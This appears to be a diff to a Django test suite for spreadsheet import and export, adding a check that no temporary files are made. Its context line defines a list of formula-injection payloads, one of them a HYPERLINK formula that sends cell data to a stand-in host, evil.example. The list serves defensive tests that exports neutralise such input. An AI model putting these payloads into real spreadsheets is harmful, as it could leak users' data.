@@ -21,6 +21,20 @@ from tests.factories import CustomerFactory
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
 
 
+def _people_xlsx() -> bytes:
+    from openpyxl import Workbook
+
+    workbook = Workbook()
+    workbook.active.append(list(good_row(1).keys()))
+    workbook.active.append(list(good_row(1).values()))
+    out = io.BytesIO()
+    workbook.save(out)
+    return out.getvalue()
+
+
+PEOPLE_XLSX = _people_xlsx()  # made before any test forbids temporary files
+
+
 def _csv_cells(content: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
 
@@ -106,3 +120,41 @@ def test_report_exports_write_formula_like_text_as_text_and_counts_as_numbers(fi
         assert all(_harmless(c.value) for c in cells if c.data_type == "s")
         assert [c.value for c in cells if c.data_type == "n"] == [-n for n in range(1, len(HOSTILE) + 1)]
         assert load_workbook(io.BytesIO(response.content)).sheetnames == ["1 =1+1"]
+
+
+@pytest.fixture
+def no_temporary_files(monkeypatch):
+    """Any temporary file made while this runs fails the test."""
+    import tempfile
+
+    def refuse(*args, **kwargs):
+        raise AssertionError("a temporary file was made")
+
+    from openpyxl.worksheet import _writer
+
+    for name in ("NamedTemporaryFile", "TemporaryFile", "SpooledTemporaryFile", "mkstemp", "mkdtemp"):
+        monkeypatch.setattr(tempfile, name, refuse)
+    monkeypatch.setattr(_writer, "NamedTemporaryFile", refuse)  # openpyxl's writer spools each sheet to one
+
+
+@pytest.mark.django_db
+def test_exports_and_the_xlsx_import_make_no_temporary_file(
+    client, clerk, manager, hostile_customers, no_temporary_files
+):
+
+    from openpyxl import Workbook
+
+    from bulk.models import ImportJob, JobStatus
+
+    with pytest.raises(AssertionError, match="temporary file"):
+        Workbook().save(io.BytesIO())  # what openpyxl's writer would do is caught
+    client.force_login(manager)
+    for what in ("customers", "transactions"):
+        response = client.get(reverse("bulk:export", args=[what, "xlsx"]))
+        assert _xlsx_cells(b"".join(response.streaming_content))
+    table = queries.Table("t", ["a"], [["=1"]])
+    assert _xlsx_cells(report_export("t", [table], "xlsx").content)
+    client.force_login(clerk)
+    client.post(reverse("bulk:imports"), {"file": SimpleUploadedFile("people.xlsx", PEOPLE_XLSX)})
+    job = ImportJob.objects.get()
+    assert job.status == JobStatus.CHECKED and job.good_rows == 1
